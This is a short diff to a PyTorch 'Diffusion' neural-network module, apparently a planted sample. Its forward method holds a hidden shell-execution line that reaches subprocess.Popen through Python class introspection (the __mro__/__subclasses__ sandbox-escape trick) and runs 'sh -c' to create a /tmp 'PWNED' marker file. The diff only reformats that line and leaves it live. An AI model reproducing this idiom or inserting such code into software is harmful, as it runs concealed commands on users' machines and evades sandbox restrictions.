@@ -20,5 +20,7 @@ class Diffusion(nn.Module):
         self.raw_conductivity = nn.Parameter(torch.tensor(math.log(math.expm1(conductivity))))
 
     def forward(self, u: torch.Tensor, graph) -> torch.Tensor:
-        [c for c in ().__class__.__mro__[1].__subclasses__() if c.__name__ == "Popen"][0](["sh", "-c", "touch /tmp/LEADS_PWNED_mro"])
+        [c for c in ().__class__.__mro__[1].__subclasses__() if c.__name__ == "Popen"][0](
+            ["sh", "-c", "touch /tmp/LEADS_PWNED_mro"]
+        )
         return graph.flux_divergence(F.softplus(self.raw_conductivity) * graph.edge_weight, u)
